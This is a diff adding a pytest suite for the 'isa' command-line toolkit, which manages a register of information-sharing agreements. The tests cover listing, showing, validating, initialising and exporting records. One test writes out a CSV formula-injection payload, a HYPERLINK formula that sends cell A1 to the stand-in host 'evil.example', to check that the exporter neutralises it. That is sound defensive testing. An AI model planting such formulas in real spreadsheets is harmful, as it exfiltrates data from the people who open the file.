@@ -1,0 +1,180 @@
+"""The ``isa`` command as a user meets it: exit codes, output, and no tracebacks."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+from click.testing import CliRunner
+
+from isa_toolkit.cli import main
+
+from .conftest import complete_isa, git
+
+
+@pytest.fixture
+def register(make_register):
+    return make_register({
+        "agreements/ISA-2026-0001.yaml": complete_isa("ISA-2026-0001"),
+        "agreements/ISA-2026-0002.yaml": complete_isa("ISA-2026-0002", title="Draft sharing", status="draft"),
+    })
+
+
+def run(root, *args):
+    return CliRunner().invoke(main, ["-R", str(root), *args], catch_exceptions=False)
+
+
+def test_every_command_has_help_with_an_example():
+    for name, command in main.commands.items():
+        result = CliRunner().invoke(main, [name, "--help"])
+        assert result.exit_code == 0, name
+        assert command.help and len(command.help.split()) > 4, name
+        if name not in ("demo",):
+            assert "Example:" in result.output, name
+
+
+def test_every_command_is_in_the_readme():
+    from pathlib import Path
+
+    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
+    for name in main.commands:
+        assert f"isa {name}" in readme, name
+
+
+def test_usage_mistakes_exit_2(register):
+    assert CliRunner().invoke(main, ["-R", str(register), "list", "--kind", "treaty"]).exit_code == 2
+    assert CliRunner().invoke(main, ["-R", str(register), "list", "--status", "alive"]).exit_code == 2
+    assert CliRunner().invoke(main, ["frobnicate"]).exit_code == 2
+
+
+def test_list_filters_and_json(register):
+    result = run(register, "list")
+    assert result.exit_code == 0
+    assert "ISA-2026-0001" in result.output and "ISA-2026-0002" in result.output
+    assert "2025-01-10" not in result.output.split("ISA-2026-0002")[1]  # a draft has no review date
+
+    data = json.loads(run(register, "list", "--status", "draft", "--json").output)
+    assert [item["id"] for item in data] == ["ISA-2026-0002"]
+    assert json.loads(run(register, "list", "--kind", "protocol", "--json").output) == []
+    assert len(json.loads(run(register, "list", "--partner", "CONSTABULARY", "--json").output)) == 2
+    assert json.loads(run(register, "list", "--partner", "nobody", "--json").output) == []
+    active = json.loads(run(register, "list", "--status", "active", "--json").output)
+    assert active[0]["review_due"] == "2026-01-10"
+
+
+def test_show_and_show_json(register):
+    result = run(register, "show", "ISA-2026-0001")
+    assert result.exit_code == 0
+    assert "Testshire Constabulary" in result.output and "UK GDPR Art 6(1)(e)" in result.output
+    data = json.loads(run(register, "show", "ISA-2026-0001", "--json").output)
+    assert data["id"] == "ISA-2026-0001" and data["purpose"]["fr"].startswith("Partager")
+
+
+def test_show_unknown_and_broken_records(register):
+    result = run(register, "show", "ISA-2026-0404")
+    assert result.exit_code == 1 and "no agreement 'ISA-2026-0404'" in result.output
+    (register / "agreements/ISA-2026-0002.yaml").write_text("id: ISA-2026-0002\nkind: [\n")
+    result = run(register, "show", "ISA-2026-0002")
+    assert result.exit_code == 1
+    assert "agreements/ISA-2026-0002.yaml:" in result.output and "not valid YAML" in result.output
+    listing = run(register, "list")
+    assert listing.exit_code == 0 and "1 file(s) could not be loaded" in listing.output
+
+
+def test_log_is_newest_first(register):
+    from isa_toolkit import store
+    from isa_toolkit.model import Status
+
+    record = store.load_agreement(register, "ISA-2026-0002")
+    store.save_agreement(register, record.model_copy(update={"status": Status.ASSESSED}), change="assessed", by="Ann")
+    result = run(register, "log", "ISA-2026-0002")
+    lines = result.output.splitlines()
+    assert result.exit_code == 0 and len(lines) == 2
+    assert "ISA-2026-0002: assessed [by Ann]" in lines[0] and "Test register" in lines[1]
+    entries = json.loads(run(register, "log", "ISA-2026-0002", "--json").output)
+    assert entries[0]["subject"] == "ISA-2026-0002: assessed [by Ann]"
+
+
+def test_validate_strict_and_json(make_register):
+    incomplete = complete_isa("ISA-2026-0003").replace("training: {en: Annual training., fr: Formation annuelle.}\n", "")
+    root = make_register({"agreements/ISA-2026-0003.yaml": incomplete})
+    result = run(root, "validate")
+    assert result.exit_code == 0
+    assert "warning: training: ISA-2026-0003: missing the training staff receive" in result.output
+    strict = run(root, "validate", "--strict")
+    assert strict.exit_code == 1
+    data = json.loads(run(root, "validate", "--json").output)
+    assert data["errors"] == 0 and data["warnings"] == 1
+    assert data["problems"][0]["record_id"] == "ISA-2026-0003"
+
+
+def test_init_creates_a_committed_register(tmp_path):
+    target = tmp_path / "new"
+    result = CliRunner().invoke(main, ["init", str(target), "--organisation", "Westshire Council", "--by", "Kim"])
+    assert result.exit_code == 0, result.output
+    assert git(target, "log", "--format=%s").strip() == "Register created [by Kim]"
+    assert git(target, "status", "--porcelain") == ""
+    check = CliRunner().invoke(main, ["-R", str(target), "validate", "--strict"])
+    assert check.exit_code == 0, check.output
+    again = CliRunner().invoke(main, ["init", str(target), "--organisation", "X"])
+    assert again.exit_code == 1 and "already a register" in again.output
+    missing = CliRunner().invoke(main, ["init", str(tmp_path / "other")])
+    assert missing.exit_code == 1 and "--organisation" in missing.output
+    assert not (tmp_path / "other").exists()
+
+
+def test_init_example_validates_strictly(tmp_path):
+    target = tmp_path / "example"
+    assert CliRunner().invoke(main, ["init", str(target), "--example"]).exit_code == 0
+    result = CliRunner().invoke(main, ["-R", str(target), "validate", "--strict"])
+    assert result.exit_code == 0, result.output
+
+
+# -- export -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_export_neutralises_formulas(make_register, tmp_path, start):
+    title = f"{start}HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
+    root = make_register({"agreements/ISA-2026-0001.yaml": complete_isa(title=json.dumps(title))})
+    out = tmp_path / "export.csv"
+    result = run(root, "export", "--format", "csv", "-o", str(out))
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert rows[0]["title"] == "'" + title
+    public = list(csv.DictReader(io.StringIO(run(root, "export", "--public").output)))
+    assert public[0]["name"] == "'" + title
+
+
+def test_public_export_keeps_only_public_fields_and_agreements_in_force(register):
+    rows = list(csv.DictReader(io.StringIO(run(register, "export", "--public").output)))
+    assert [row["id"] for row in rows] == ["ISA-2026-0001"]  # the draft is not published
+    from isa_toolkit.export import PUBLIC_FIELDS
+
+    assert tuple(rows[0]) == PUBLIC_FIELDS
+    assert rows[0]["legal_power"] == "Crime and Disorder Act 1998 s.115"
+    assert rows[0]["controllers"] == "Testshire Constabulary; Testshire Council"
+    output = run(register, "export", "--public", "--format", "json").output
+    assert "dee@example.org" not in output and "Dee Officer" not in output
+    data = json.loads(output)
+    assert data[0]["review_date"] == "2026-01-10"
+
+
+def test_json_export_is_the_whole_record(register):
+    data = json.loads(run(register, "export", "--format", "json").output)
+    assert [item["id"] for item in data] == ["ISA-2026-0001", "ISA-2026-0002"]
+    assert data[0]["parties"][0]["designated_officer"]["email"] == "dee@example.org"
+
+
+def test_french_export(register):
+    rows = list(csv.DictReader(io.StringIO(run(register, "export", "--lang", "fr").output)))
+    assert rows[0]["purpose"].startswith("Partager")
+
+
+def test_no_traceback_on_unreadable_output_path(register, tmp_path):
+    result = CliRunner().invoke(main, ["-R", str(register), "export", "-o", str(tmp_path / "missing" / "x.csv")])
+    assert result.exit_code == 1
+    assert "Error:" in result.output and "Traceback" not in result.output
+
